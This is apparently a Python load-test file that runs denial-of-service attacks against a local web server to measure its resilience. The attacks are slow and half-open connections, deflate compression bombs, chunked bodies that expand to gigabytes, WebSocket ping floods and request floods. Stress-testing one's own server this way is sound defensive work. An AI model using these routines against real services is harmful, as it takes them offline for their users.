"""Those who attack a front: each kind a coroutine that goes on until it is cancelled. Standard library alone.

``python tests/load/attackers.py KIND PORT SECONDS [COOKIE PLACE]`` runs one in a process of its own, so that
what is measured meanwhile is the server's doing.
"""

from __future__ import annotations

import asyncio
import base64
import itertools
import os
import re
import sys
import zlib
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass

ADDRESSES = 40
"""From how many addresses (of the loopback) somebody comes."""
_AGAIN_S = 1.0
"""How soon a connection that was ended is opened anew."""
_HOST = "Host: 127.0.0.1\r\n"
_FORM = (
    f"POST /login HTTP/1.1\r\n{_HOST}Origin: http://127.0.0.1\r\n"
    "Content-Type: application/x-www-form-urlencoded"
)


@dataclass(frozen=True)
class Aim:
    """What is attacked."""

    port: int
    connections: int = 100
    """At once, of the attacks that hold them."""
    cookie: str = ""
    """Of an annotator, for the attacks that need one."""
    place: str = ""
    """The annotator's page."""


async def connect(aim: Aim, number: int = 0) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A connection from one of many addresses."""
    local = (f"127.0.0.{2 + number % ADDRESSES}", 0) if sys.platform == "linux" else None
    return await asyncio.open_connection("127.0.0.1", aim.port, local_addr=local)


async def always(aim: Aim, count: int, once: Callable[[int], Awaitable[None]], every_s: float) -> None:
    """Does something in so many tasks, again and again, each at most every so many seconds."""

    async def one(number: int) -> None:
        while True:
            with suppress(OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
                await once(number)
            await asyncio.sleep(every_s)

    await asyncio.gather(*(one(number) for number in range(count)))


async def hold(aim: Aim) -> None:
    """Connections over which nothing comes, half a header, or half a body."""
    starts = (
        b"",
        f"GET / HTTP/1.1\r\n{_HOST}X: ".encode(),
        f"{_FORM}\r\nContent-Length: 500\r\n\r\ntok".encode(),
    )

    async def once(number: int) -> None:
        reader, writer = await connect(aim, number)
        try:
            writer.write(starts[number % 3])
            while await reader.read(4096):
                pass
        finally:
            writer.close()

    await always(aim, aim.connections, once, _AGAIN_S)


async def slow_bodies(aim: Aim) -> None:
    """Bodies that come byte by byte."""

    async def once(number: int) -> None:
        reader, writer = await connect(aim, number)
        try:
            writer.write(f"{_FORM}\r\nContent-Length: 500\r\n\r\n".encode())
            for _ in range(500):
                writer.write(b"a")
                await writer.drain()
                with suppress(TimeoutError):
                    async with asyncio.timeout(0.5):
                        if not await reader.read(4096):
                            return
        finally:
            writer.close()

    await always(aim, aim.connections, once, _AGAIN_S)


async def compressed(aim: Aim) -> None:
    """Small login bodies that become 60 kB, in a character set that is slow to read."""
    body = zlib.compress(b"b" * 60_000, 9)
    head = f"{_FORM}; charset=punycode\r\nContent-Encoding: deflate\r\nContent-Length: {len(body)}\r\n\r\n"

    async def once(number: int) -> None:
        reader, writer = await connect(aim, number)
        try:
            writer.write(head.encode() + body)
            await reader.read(4096)
        finally:
            writer.close()

    await always(aim, 8, once, 0.1)


async def unread(aim: Aim) -> None:
    """Bodies for addresses that take none, which would become gigabytes."""
    squeeze = zlib.compressobj(9)
    start = squeeze.compress(bytes(1 << 24)) + squeeze.flush(zlib.Z_SYNC_FLUSH)
    more = squeeze.compress(bytes(1 << 24)) + squeeze.flush(zlib.Z_SYNC_FLUSH)
    head = f"POST /x HTTP/1.1\r\n{_HOST}Content-Encoding: deflate\r\nTransfer-Encoding: chunked\r\n\r\n"

    async def once(number: int) -> None:
        _, writer = await connect(aim, number)
        try:
            writer.write(head.encode())
            for block in itertools.chain([start], itertools.repeat(more, 200)):
                writer.write(b"%x\r\n%s\r\n" % (len(block), block))
                await writer.drain()
        finally:
            writer.close()

    await always(aim, 4, once, 0.1)


async def pings(aim: Aim) -> None:
    """Pings, and fragments with nothing in them, over the WebSocket of somebody with a session."""
    mask = b"\x80" + bytes(4)
    flood = (b"\x89" + mask) * 1000 + b"\x02" + mask + (b"\x00" + mask) * 10_000 + b"\x80" + mask

    async def once(number: int) -> None:
        reader, writer = await connect(aim, number)
        try:
            key = base64.b64encode(os.urandom(16)).decode()
            writer.write(
                f"GET {aim.place} HTTP/1.1\r\nHost: 127.0.0.1:{aim.port}\r\nOrigin: http://127.0.0.1:{aim.port}\r\n"
                f"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
                f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Protocol: viser-v1.1.1\r\n"
                f"Cookie: {aim.cookie}\r\n\r\n".encode()
            )
            await reader.readuntil(b"\r\n\r\n")
            while True:
                writer.write(flood)
                await writer.drain()
        finally:
            writer.close()

    await always(aim, 4, once, 0.1)


async def requests(aim: Aim) -> None:
    """Small requests without a session, complete and right, as fast as they are answered."""
    places = ("/login", "/healthz", "/", "/r/1/session", "/login?token=x", "/clips/1.jpg")
    cookies = f"Cookie: onedemo-{aim.port}=a; onedemo-{aim.port}=b; onedemo-{aim.port}=c\r\n"
    asks = [f"GET {place} HTTP/1.1\r\n{_HOST}{cookies}\r\n".encode() for place in places]

    async def once(number: int) -> None:
        reader, writer = await connect(aim, number)
        try:
            for ask in itertools.cycle(asks):
                writer.write(ask)
                head = await reader.readuntil(b"\r\n\r\n")
                size = re.search(rb"(?i)\ncontent-length: (\d+)", head)
                if size is None:
                    return
                await reader.readexactly(int(size[1]))
        finally:
            writer.close()

    await always(aim, min(aim.connections, 2 * ADDRESSES), once, 0.0)


KINDS: dict[str, Callable[[Aim], Awaitable[None]]] = {
    "half connections": hold,
    "slow bodies": slow_bodies,
    "compressed login bodies": compressed,
    "bodies nobody reads": unread,
    "pings and empty fragments": pings,
    "complete requests": requests,
}


async def attack(kind: str, aim: Aim, seconds: float) -> None:
    """One kind, for so long."""
    with suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            await KINDS[kind](aim)


if __name__ == "__main__":
    kind, port, connections, seconds, *rest = sys.argv[1:]
    asyncio.run(attack(kind, Aim(int(port), int(connections), *rest), float(seconds)))
